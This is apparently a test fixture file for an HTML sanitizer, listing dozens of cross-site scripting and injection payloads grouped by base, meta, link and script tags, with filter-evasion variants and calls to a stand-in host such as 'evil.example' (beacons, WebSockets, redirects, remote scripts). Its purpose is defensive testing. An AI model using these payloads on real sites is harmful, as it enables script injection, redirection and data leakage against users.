"""What speaks for the whole document: base, meta, link, and scripts that are plain scripts."""

from typing import Final

from tests.browser.attack import EVIL, HIT, IMG, attacks

_BASE: Final = {
    "and a script": f"<base href={EVIL}/><script src=s.js></script>",
    "and a stylesheet": f"<base href={EVIL}/><link rel=stylesheet href=s.css>",
    "and an image": f"<base href={EVIL}/><img src=i.png>",
    "target": "<base target=_blank><a href=#x>x</a>",
    "target for forms": "<base target=_top><form><button>x</button></form>",
    "data": f"<base href='data:text/html,<script>{HIT}</script>'><a href=#x>x</a>",
    "unclosed target": f"<base target='\n<a href={EVIL}/>x</a>'",
}

_META: Final = {
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    "refresh, no url": f"<meta http-equiv=refresh content='0,{EVIL}/'>",
    "refresh, quotes": f"<meta http-equiv=refresh content=\"0;url='{EVIL}/'x\">",
    "refresh, upper case": f"<META HTTP-EQUIV=REFRESH CONTENT='0; URL={EVIL}/'>",
    "refresh, entity": f"<meta http-equiv=refr&#101;sh content='0;url={EVIL}/'>",
    "refresh, itself": "<meta http-equiv=refresh content=0>",
    "refresh, protocol-relative": "<meta http-equiv=refresh content='.0 url=//evil.example/'>",
    "refresh, in a paragraph": f"<p><meta http-equiv=refresh content='0;{EVIL}/'></p>",
    "cookie": "<meta http-equiv=set-cookie content=x=y>",
    "charset": f"<meta charset=utf-7>+ADw-img src=x onerror={HIT}+AD4-",
    "content type": "<meta http-equiv=content-type content='text/html;charset=utf-7'>",
    "policy that reports": (
        "<meta http-equiv=content-security-policy content=\"img-src 'none'\"><img src=i.png>"
    ),
    "referrer": f"<meta name=referrer content=unsafe-url><img src={EVIL}/i.png>",
    "default style": "<meta http-equiv=default-style content=x>",
    "link": f"<meta http-equiv=link content='<{EVIL}/s.css>;rel=stylesheet'>",
}

_LINK: Final = {
    "stylesheet": f"<link rel=stylesheet href={EVIL}/s.css>",
    "stylesheet among others": f"<link rel='x StyleSheet y' href={EVIL}/s.css>",
    "stylesheet, alternate": f"<link rel='alternate stylesheet' title=x href={EVIL}/s.css>",
    "stylesheet, print": f"<link rel=stylesheet media=print href={EVIL}/s.css>",
    "stylesheet, protocol-relative": "<link rel=stylesheet href=//evil.example/s.css>",
    "stylesheet, backslashes": "<link rel=stylesheet href='\\\\evil.example\\s.css'>",
    "stylesheet, in a paragraph": f"<p><link rel=stylesheet href={EVIL}/s.css></p>",
    "stylesheet, itemprop": f"<link itemprop=x rel=stylesheet href={EVIL}/s.css>",
    "prefetch": f"<link rel=prefetch href={EVIL}/p>",
    "prerender": f"<link rel=prerender href={EVIL}/p>",
    "preload, script": f"<link rel=preload as=script href={EVIL}/s.js>",
    "preload, style": f"<link rel=preload as=style href={EVIL}/s.css onload={HIT}>",
    "preload, font": f"<link rel=preload as=font crossorigin href={EVIL}/f.woff>",
    "preload, fetch": f"<link rel=preload as=fetch crossorigin href={EVIL}/x.json>",
    "preload, image set": f"<link rel=preload as=image imagesrcset='{EVIL}/i.png 1x'>",
    "module preload": f"<link rel=modulepreload href={EVIL}/m.js>",
    "dns prefetch": "<link rel=dns-prefetch href=//evil.example>",
    "preconnect": f"<link rel=preconnect href={EVIL}>",
    "icon": f"<link rel='shortcut icon' href={EVIL}/favicon.ico>",
    "manifest": f"<link rel=manifest href={EVIL}/m.json>",
    "import": f"<link rel=import href={EVIL}/i.html>",
    "compression dictionary": f"<link rel=compression-dictionary href={EVIL}/d>",
    "pingback": f"<link rel=pingback href={EVIL}/p>",
    "search": f"<link rel=search type=application/opensearchdescription+xml href={EVIL}/o.xml>",
}

_SCRIPT: Final = {
    "inline": f"<script>{HIT}</script>",
    "upper case": f"<SCRIPT>{HIT}</SCRIPT>",
    "mixed case": f"<ScRiPt>{HIT}</sCrIpT>",
    "slash": f"<script/x>{HIT}</script>",
    "line break": f"<script\n>{HIT}</script\n>",
    "end tag with attributes": f"<script>{HIT}</script x=y>",
    "end tag with a slash": f"<script>{HIT}</script/>",
    "language": f"<script language=javascript1.1>{HIT}</script>",
    "type of old": f"<script type=text/jscript>{HIT}</script>",
    "vbscript": "<script language=vbscript>window.__hit 1</script>",
    "for and event": f"<script for=window event=onload>{HIT}</script>",
    "module": f"<script type=module>{HIT}</script>",
    "from elsewhere": f"<script src={EVIL}/s.js></script>",
    "from elsewhere, protocol-relative": "<script src=//evil.example/s.js></script>",
    "from elsewhere, one slash": "<script src=http:/evil.example/s.js></script>",
    "from elsewhere, backslash": "<script src=/\\evil.example/s.js></script>",
    "from elsewhere, async": f"<script async src={EVIL}/s.js></script>",
    "from elsewhere, module": f"<script type=module src={EVIL}/s.mjs></script>",
    "from elsewhere, never closed": f"<script src={EVIL}/s.js>",
    "import map": f'<script type=importmap>{{"imports":{{"x":"{EVIL}/x.js"}}}}</script>',
    "speculation rules": (
        '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["/p"]}]}</script>'
    ),
    "written by a script": f"<script>document.write('<img src=x onerror={HIT}>')</script>",
    "eval": f"<script>eval('{HIT}')</script>",
    "timer of a string": f"<script>setTimeout('{HIT}')</script>",
    "new window": f"<script>open('{EVIL}/')</script>",
    "location": f"<script>location='{EVIL}/'</script>",
    "worker": f"<script>new Worker('data:text/javascript,{HIT}')</script>",
    "beacon": f"<script>navigator.sendBeacon('{EVIL}/b')</script>",
    "socket": "<script>new WebSocket('ws://evil.example/')</script>",
    "nested": f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    "doubled angle": f"<<script>{HIT}//<</script>",
    "whole document": f"<!doctype html><html><head><script>{HIT}</script></head><body>{IMG}</body>",
}

ATTACKS: Final = (
    *attacks("base", _BASE),
    *attacks("meta", _META),
    *attacks("link", _LINK),
    *attacks("script", _SCRIPT),
)
